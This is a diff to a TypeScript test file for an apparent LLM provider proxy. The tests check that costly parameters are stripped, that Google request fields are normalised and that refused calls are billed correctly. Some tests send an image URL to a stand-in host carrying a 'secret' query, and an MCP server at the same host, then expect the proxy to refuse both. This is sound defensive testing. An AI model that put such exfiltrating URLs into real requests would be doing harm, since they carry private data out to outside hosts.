@@ -240,6 +240,8 @@ test('what would reach further from the provider is taken out or refused', async
   expect(
     (await ask({ input: [{ content: [{ type: 'input_image', image_url: 'https://evil.test/?q=secret' }] }] })).status,
   ).toBe(400)
+  const asked = [{ content: [{ type: 'input_image', image_url: 'https://evil.test/?q=secret' }] }]
+  expect((await ask({ type: 'tool_use', input: asked })).status, 'is no data of a tool').toBe(400)
   expect((await ask({ tools: [{ type: 'mcp', server_url: 'https://evil.test' }] })).status).toBe(400)
   await ask({
     tools: [
@@ -250,6 +252,43 @@ test('what would reach further from the provider is taken out or refused', async
   })
   expect(upstream.seen).toHaveLength(1)
   expect(upstream.seen[0]?.body).toMatchObject({ store: false, tools: [{ type: 'function', name: 'exec' }] })
+})
+
+test.each([
+  ['openai', 'openai-chat', '/v1/chat/completions', { n: '8', best_of: 8, service_tier: 'priority' }],
+  ['openai', 'openai-responses', '/v1/responses', { service_tier: 'priority' }],
+  ['anthropic', 'anthropic-messages', '/v1/messages', { speed: 'fast', service_tier: 'auto', inference_geo: 'us' }],
+  ['google', 'google-generate', '/v1beta/models/any:generateContent', { service_tier: 'priority', serviceTier: 'x' }],
+] as const)('what would make a call of %s by %s dearer than was set aside is taken out', async (...each) => {
+  const [provider, speaks, path, body] = each
+  const upstream = await openProvider({ chunks: ['{}'] })
+  const { line } = await openLine(provider, speaks, upstream.url)
+  expect((await send(line.socket, path, body)).status).toBe(200)
+  const sent = Object.keys(upstream.seen[0]?.body ?? {})
+  expect(sent.filter((name) => /^(n|best_of|speed)$|tier|geo/i.test(name))).toEqual([])
+})
+
+test('Google is asked in one of the two spellings that it takes, so that neither says more than was looked at', async () => {
+  const upstream = await openProvider({ chunks: ['{}'] })
+  const { line } = await openLine('google', 'google-generate', upstream.url)
+  const ask = (body: object) => send(line.socket, '/v1beta/models/any:generateContent', body)
+  expect((await ask({ generation_config: { candidate_count: 8 } })).status).toBe(400)
+  expect((await ask({ generationConfig: { candidateCount: '8' } })).status).toBe(400)
+  const tools = [{ google_search: {} }, { function_declarations: [{ name: 'exec' }] }]
+  await ask({ generation_config: { max_output_tokens: 60_000 }, cached_content: 'cachedContents/1', tools })
+  expect(upstream.seen.map(({ body }) => body)).toEqual([
+    { generationConfig: { maxOutputTokens: 1_000 }, tools: [{ functionDeclarations: [{ name: 'exec' }] }] },
+  ])
+})
+
+test('a question that Google refuses to answer is booked as what it was, and holds no money', async () => {
+  const usageMetadata = { promptTokenCount: 100, totalTokenCount: 100 }
+  const refused = JSON.stringify({ promptFeedback: { blockReason: 'PROHIBITED_CONTENT' }, usageMetadata })
+  const upstream = await openProvider({ chunks: [refused] })
+  const { line, open, settled } = await openLine('google', 'google-generate', upstream.url)
+  expect((await send(line.socket, '/v1beta/models/any:generateContent', { contents: [] })).status).toBe(200)
+  await expect.poll(() => settled).toMatchObject([{ tokens: 100 }])
+  expect(open.size).toBe(0)
 })
 
 test('a call that money refuses is not made, and ends the agent', async () => {
